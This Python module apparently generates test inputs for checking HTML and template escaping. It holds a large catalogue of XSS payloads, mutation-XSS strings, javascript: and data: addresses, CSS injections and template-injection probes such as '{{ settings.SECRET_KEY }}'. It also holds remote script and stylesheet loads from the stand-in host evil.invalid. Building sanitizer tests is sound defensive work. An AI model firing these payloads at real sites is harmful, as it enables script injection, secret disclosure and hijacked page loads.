"""Texts that try to run a script, load something or leave their place on a page. Composed here, not copied from a list.

Each one that adds an element marks it with `data-hit`, each one that runs sets `window.ran` and opens a dialog, each one that
a template would calculate contains a product, and each one that loads something asks `evil.invalid`.
"""

from __future__ import annotations

from dataclasses import dataclass
from itertools import product

RUN = "alert(ran=1)"
AWAY = "//evil.invalid/x"
FACTORS, PRODUCT = "31337*31", "971447"

# What a text can stand in, and how it ends that.
ENDS = {
    "text": "", "double quotes": '">', "single quotes": "'>", "no quotes": "x>", "a paragraph": "</p></div>",
    "a field": "</textarea>", "a title": "</title>", "a script": "</script>", "a style": "</style>",
    "a choice": "</option></select>", "a comment": "--><!---->", "CDATA": "]]>", "a template": "</template>",
    "noscript": "</noscript>", "an SVG": "</text></svg>", "a table": "</td></tr></table>",
}  # fmt: skip
ELEMENTS = {
    "script": f"<script data-hit>{RUN}</script>",
    "script, oddly written": f"<sCrIpT/x data-hit\n>{RUN}</ScRiPt\t>",
    "script from elsewhere": f"<script data-hit src={AWAY}></script>",
    "module": f"<script data-hit type=module>{RUN}</script>",
    "picture": f"<img data-hit src=x onerror={RUN}>",
    "picture without spaces": f"<img/data-hit/src=x/onerror={RUN}>",
    "picture with an open tag": f'<img data-hit src="x" onerror="{RUN}"',
    "picture from elsewhere": f"<img data-hit src={AWAY}>",
    "SVG": f"<svg data-hit onload={RUN}>",
    "SVG with a script": f"<svg data-hit><script>{RUN}</script></svg>",
    "SVG with an animation": f"<svg data-hit><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "SVG with a link": f"<svg data-hit><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
    "SVG with HTML": f"<svg data-hit><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "details": f"<details data-hit open ontoggle={RUN}>x</details>",
    "focus": f"<input data-hit autofocus onfocus={RUN}>",
    "video": f"<video data-hit><source onerror={RUN}></video>",
    "frame": f'<iframe data-hit srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "frame with an address": f"<iframe data-hit src=javascript:parent.{RUN}></iframe>",
    "object": f"<object data-hit data=javascript:{RUN}></object>",
    "embed": f"<embed data-hit src=javascript:{RUN}>",
    "link": f"<a data-hit href=javascript:{RUN}>x</a>",
    "link with entities": f"<a data-hit href=jav&#x09;ascript&colon;{RUN}>x</a>",
    "form": f"<form data-hit action={AWAY}><button formaction=javascript:{RUN}>x</button></form>",
    "base": f"<base data-hit href={AWAY}>",
    "refresh": f'<meta data-hit http-equiv=refresh content="0;url={AWAY}">',
    "style sheet": f"<link data-hit rel=stylesheet href={AWAY}>",
    "style": f"<style data-hit>@import '{AWAY}';*{{display:none}}</style>",
    "inline style": f"<p data-hit style=\"background:url('{AWAY}');position:fixed\">x</p>",
    "body": f"<body data-hit onpageshow={RUN}>",
    "animation": f"<x data-hit style=animation-name:x onanimationstart={RUN}>x</x>",
    # Texts that another reading of the same HTML turns into an element.
    "mutation in MathML": f"<math data-hit><mtext><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    "mutation in SVG": f"<svg data-hit></p><style><a id='</style><img src=x onerror={RUN}>'>",
    "mutation in noscript": f"<noscript data-hit><p title='</noscript><img data-hit src=x onerror={RUN}>'>",
    "mutation by namespace": f"<form data-hit><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    "mutation in a template": f"<template data-hit><style></template><img src=x onerror={RUN}></style></template>",
}  # fmt: skip
ATTRIBUTES = [
    f"{quote}{space}{what}{space}data-hit={quote or 'x'}"
    for quote, space, what in product(
        ('"', "'"),
        (" ", "\n", "/"),
        (
            f"onfocus={RUN} autofocus",
            f"onpointerenter={RUN}",
            f"style=background:url({AWAY})",
            f"formaction=javascript:{RUN}",
        ),
    )
]
ADDRESSES = [
    *(
        f"{scheme}{RUN}"
        for scheme in (
            "javascript:",
            "JaVaScRiPt:",
            " javascript:",
            "java\tscript:",
            "javascript://%0a",
            "vbscript:",
        )
    ),
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgpPC9zY3JpcHQ+",
    AWAY,
    r"\\evil.invalid\x",
    "https:evil.invalid/x",
    "https://contoso.example@evil.invalid/x",
    "/\\evil.invalid/x",
    "blob:https://evil.invalid/x",
]
STYLES = [
    f"}}*{{background:url({AWAY})}}",
    f"red;background:url({AWAY})",
    f"</style><script data-hit>{RUN}</script>",
    f"@import '{AWAY}';",
    f"expression({RUN})",
    f"url(javascript:{RUN})",
    "x{}*{display:none!important}",
    f"\\75rl({AWAY})",
    "/**/}body{color:red}/*",
]
TEMPLATES = [
    *(
        f"{left}{FACTORS}{right}"
        for left, right in (
            ("{{", "}}"),
            ("{{ ", " }}"),
            ("${", "}"),
            ("#{", "}"),
            ("<%= ", " %>"),
            ("[[", "]]"),
            ("%{", "}"),
            ("@(", ")"),
            ("*{", "}"),
            ("{{=", "}}"),
            ("{=", "}"),
            ("`${", "}`"),
            ("{{{", "}}}"),
            ("~{", "}"),
        )
    ),
    "{% debug %}",
    "{{ request.session }}",
    "{{ settings.SECRET_KEY }}",
    "{% include 'base.html' %}",
    "{# x #}",
    "{% load x %}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "%(name)s %s {0} {name!r}",
    "{{''.__class__.__mro__}}",
    "{% endblock %}{% endautoescape %}",
]
MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"![x]({AWAY})",
    f'![x](x"onerror="{RUN})',
    f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"`</code><script data-hit>{RUN}</script>`",
    f"```\n</pre><script data-hit>{RUN}</script>\n```",
    f"<details open ontoggle={RUN} data-hit><summary>x</summary></details>",
    f"***<img data-hit src=x onerror={RUN}>***",
]
STRINGS = [
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f'\\";{RUN};//',
    f"</script><script data-hit>{RUN}</script>",
    f"${{{RUN}}}",
    f"`-{RUN}-`",
    f"*/{RUN}/*",
    f"\\u0027;{RUN};//",
    f"'-{RUN}-'",
    f'"-{RUN}-"',
    f"<!--<script>{RUN}",
    f"-->{RUN}",
    f"\\\n{RUN}",
    f"']);{RUN};([',",
]
ENCODED = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"%253Cscript%253E{RUN}",
    f"\\x3cscript\\x3e{RUN}",
    f"\\u003cscript\\u003e{RUN}",
    f"＜script＞{RUN}＜/script＞",
    f"+ADw-script+AD4-{RUN}",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script data-hit>{RUN}//<</script>",
    f"<script\u00a0data-hit>{RUN}</script>",
    "&NewLine;&Tab;&colon;",
]


@dataclass(frozen=True)
class Payload:
    """One text, and the place where a page that does not escape it would show what it does; empty if there is none."""

    kind: str
    text: str
    breaks: str = ""


def payloads() -> list[Payload]:
    """Every payload once, in an order that mixes the kinds."""
    found = [
        Payload(f"{what}, out of {place}", f"{end}{element}", "<main><p>{}</p></main>")
        for (place, end), (what, element) in product(ENDS.items(), ELEMENTS.items())
    ]
    found += [
        Payload("attribute", text, "<input value=" + text[0] + "{}" + text[0] + ">") for text in ATTRIBUTES
    ]
    found += [Payload("address", text, '<a href="{}">x</a>') for text in ADDRESSES]
    found += [Payload("style", text) for text in STYLES]
    found += [Payload("template", text) for text in TEMPLATES]
    found += [Payload("markdown", text) for text in MARKDOWN]
    found += [Payload("string", text) for text in STRINGS]
    found += [Payload("encoded", text) for text in ENCODED]
    return found[::3] + found[1::3] + found[2::3]


class Texts:
    """Texts with many payloads each. One of `parts` texts after the other has every payload once.

    With one part, each text has all of them.
    """

    def __init__(self, parts: int) -> None:
        self.parts, self._next = parts, 0

    def next(self) -> str:
        text = " ".join(payload.text for payload in payloads()[self._next :: self.parts])
        self._next = (self._next + 1) % self.parts
        return text
